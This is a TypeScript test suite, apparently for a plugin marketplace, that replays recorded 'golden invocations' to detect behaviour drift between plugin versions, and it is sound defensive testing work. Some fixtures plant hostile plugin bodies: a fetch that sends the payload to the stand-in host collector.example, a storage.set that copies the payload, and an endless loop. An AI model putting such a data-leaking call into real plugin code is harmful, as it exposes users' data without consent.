import { createHash } from 'node:crypto';
import { recordGolden, openSandbox, type Golden, type HostCalls, type Sandbox } from '@guildhall/sandbox';
import type { Session } from '@guildhall/authz';
import { aBuild, fakeInspector } from '../../testing/fake-inspector.ts';
import { aForge, type TestForge } from '../../testing/harness.ts';
import { conclusionOf, passVersion, publishVersion, beginVersion } from '../../testing/pass-version.ts';
import { mara, system } from '../../testing/sessions.ts';
import { aPublisherAndItsPlugin } from '../../testing/submit.ts';
import { replaying } from './replaying.ts';

const MANIFEST = {
  manifestVersion: 1,
  id: 'orchard.hello',
  displayName: 'Hello',
  version: '1.0.0',
  description: 'Says hello.',
  engines: { surface: { crm: '^1.0.0' } },
  functionsMain: 'src/functions.ts',
  functions: [{ name: 'lookUp', entry: 'run' }],
  contributes: {},
  permissions: { required: [], optional: [] },
  origins: { required: [], optional: [] },
};

const LOOK_UP = `const seen = await api.storage.get('seen'); return { hello: payload.name, seen };`;
const bundleOf = (body: string) => `guildhall.register({ run: async (payload, api) => { ${body} } });`;
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

let body = LOOK_UP;
let files: { path: string; text: string }[] = [];
const inspector = fakeInspector({
  build: async () => {
    const code = bundleOf(body);
    const bundle = {
      name: 'functions.js',
      sha256: sha256(code),
      bytes: code.length,
      gzipBytes: 1,
      breakdown: [],
    };
    const built = aBuild({ manifest: { body: MANIFEST, digest: 'a'.repeat(64) }, bundles: [bundle] });
    const content = new TextEncoder().encode(code);
    return { ...built, contents: [{ sha256: bundle.sha256, content }], golden: files };
  },
});

let recorder: Sandbox;
let forge: TestForge;
beforeAll(async () => {
  recorder = await openSandbox({ executors: 1, workers: 1 });
});
afterAll(() => recorder.close());
beforeEach(async () => {
  [body, files] = [LOOK_UP, []];
  forge = await aForge(inspector);
  await aPublisherAndItsPlugin(forge);
});
afterEach(() => forge.close());

const host: HostCalls = ({ op }) => Promise.resolve(op === 'storage.get' ? 4 : null);

async function record(
  name: string,
  source = LOOK_UP,
  payload = { name: 'Ada' },
): Promise<{ path: string; text: string }> {
  const code = bundleOf(source);
  const { golden } = await recordGolden(
    recorder,
    'lookUp',
    {
      ...{ marketplaceId: 'local', installationId: 'local', functionName: 'run', payload, idempotent: true },
      ...{ code, codeDigest: sha256(code), context: {}, settings: {} },
    },
    host,
  );
  return asFile(name, golden);
}
const asFile = (name: string, golden: Golden) => ({
  path: `golden/${name}.json`,
  text: JSON.stringify(golden),
});

/** A first version with one golden invocation, published; then the next one is up to the test. */
async function firstVersion(): Promise<void> {
  files = [await record('ada')];
  await passVersion(forge, 'ver_one', '1.0.0');
  await publishVersion(forge, 'ver_one', '1.0.0', '2026-01-01T00:00:00.000Z');
}

interface Seen {
  _entities: [
    {
      drift: null | {
        changeClass: string;
        axes: { axis: string; unknown: string | null; changes: object[] }[];
      };
      run: { build: { log: string } };
    },
  ];
}

async function see(id: string, session: Session = mara) {
  const source = `query ($of: [_Any!]!) { _entities(representations: $of) { ... on Version {
    drift { changeClass axes { axis unknown changes { sentence changeClass } } } run { build { log } } } } }`;
  const { _entities } = (await forge.ask(session, source, { of: [{ __typename: 'Version', id }] })) as Seen;
  const [{ drift, run }] = _entities;
  const behaviour = drift?.axes.find(({ axis }) => axis === 'BEHAVIOUR');
  return {
    behaviour: { changes: behaviour?.changes, unknown: behaviour?.unknown },
    drift,
    log: run.build.log,
  };
}

describe('golden invocations at submission', () => {
  it('show no difference to a version that does the same, however it is written', async () => {
    await firstVersion();
    body = `/* tidied */ return { seen: await api.storage.get('seen'), hello: payload.name };`;
    await passVersion(forge, 'ver_two', '1.1.0');
    expect(await see('ver_two')).toMatchObject({ behaviour: { changes: [], unknown: null }, log: '' });
  });

  it('show a new call of the next version, ask for a reviewer, and reach policies', async () => {
    await firstVersion();
    body = `await api.fetch('https://collector.example/?' + payload.name).catch(() => 0); ${LOOK_UP}`;
    await passVersion(forge, 'ver_two', '1.1.0');
    const { behaviour, drift, log } = await see('ver_two');
    const sentence = 'In the golden invocation ada it now also calls fetch GET https://collector.example.';
    expect(behaviour.changes).toEqual([{ sentence, changeClass: 'rereview' }]);
    expect(drift?.changeClass).toBe('rereview');
    expect(log).toContain('golden/ada.json: It calls fetch with arguments not seen before.');
    const { facts } = await conclusionOf(forge, 'ver_two');
    expect(facts).toMatchObject({
      drift: { changeClass: 'rereview', axes: expect.arrayContaining(['BEHAVIOUR']) as unknown },
    });
  });

  it('cannot be silenced by recording them anew, or by leaving them out', async () => {
    await firstVersion();
    body = `await api.storage.set('copy', payload); ${LOOK_UP}`;
    files = [await record('ada', body)];
    await passVersion(forge, 'ver_two', '1.1.0');
    const sentence = 'In the golden invocation ada it now also calls storage.set.';
    expect((await see('ver_two')).behaviour.changes).toEqual([{ sentence, changeClass: 'rereview' }]);
    files = [];
    await passVersion(forge, 'ver_three', '1.2.0');
    expect((await see('ver_three')).behaviour.changes).toEqual([{ sentence, changeClass: 'rereview' }]);
  });

  it('believe no file: what was claimed of the version before is run as well', async () => {
    const lie = JSON.parse((await record('ada')).text) as Golden;
    files = [asFile('ada', { ...lie, value: 'something else' })];
    await passVersion(forge, 'ver_one', '1.0.0');
    await publishVersion(forge, 'ver_one', '1.0.0', '2026-01-01T00:00:00.000Z');
    await passVersion(forge, 'ver_two', '1.1.0');
    const { behaviour, log } = await see('ver_two');
    expect(behaviour).toEqual({ changes: [], unknown: null });
    expect(log).toContain('golden/ada.json: Its result is another one.');
  });

  it('tell of those that are new', async () => {
    await firstVersion();
    files = [...files, await record('grace', LOOK_UP, { name: 'Grace' })];
    await passVersion(forge, 'ver_two', '1.1.0');
    expect((await see('ver_two')).behaviour.changes).toEqual([
      { sentence: 'The golden invocation grace is new.', changeClass: 'notify' },
    ]);
  });

  it('say that there are none, and which files are none, without failing anything', async () => {
    await passVersion(forge, 'ver_one', '1.0.0');
    await publishVersion(forge, 'ver_one', '1.0.0', '2026-01-01T00:00:00.000Z');
    files = [{ path: 'golden/a.json', text: '{"format":9}' }];
    await passVersion(forge, 'ver_two', '1.1.0');
    const { behaviour, log } = await see('ver_two');
    expect(behaviour).toEqual({ changes: [], unknown: 'There are no golden invocations.' });
    expect(log).toContain('golden/a.json is no golden invocation');
    expect((await conclusionOf(forge, 'ver_two')).outcome).toBe('CONCLUDED');
  });

  it('of code that does not end are ended, and the run goes on', async () => {
    await firstVersion();
    body = 'for (;;);';
    await passVersion(forge, 'ver_two', '1.1.0');
    expect((await see('ver_two')).behaviour.changes).toEqual([
      { sentence: 'The golden invocation ada ends with "timeout" instead of "ok".', changeClass: 'notify' },
    ]);
  });

  it('are told as unknown when no sandbox can be had', async () => {
    files = [await record('ada')];
    const runId = await beginVersion(forge, 'ver_one', '1.0.0');
    const broken = replaying(inspector, { units: forge.units, session: system }, runId, () =>
      Promise.reject(new Error('out of memory')),
    );
    const input = {
      archive: new Uint8Array(),
      surfaces: [],
      previous: null,
      expected: { pluginName: '', versionString: '' },
    };
    const built = await broken.build(input, new AbortController().signal);
    const reason = 'Golden invocations could not be replayed: out of memory.';
    expect(built.report.log).toEqual([reason]);
    expect(await forge.run(system, (ctx) => ctx.goldens.find(runId))).toMatchObject({
      unknown: reason,
      set: [{ name: 'ada' }],
    });
  });

  it('stay in their marketplace', async () => {
    await firstVersion();
    const rows = await forge.rows<{ run_id: string }>(
      "SELECT run_id FROM stage_report WHERE stage = 'golden'",
    );
    expect(rows).toHaveLength(1);
    const elsewhere = { ...system, marketplaceId: 'mkt_two' };
    expect(await forge.run(elsewhere, (ctx) => ctx.goldens.find(rows[0]?.run_id ?? ''))).toBeNull();
  });
});
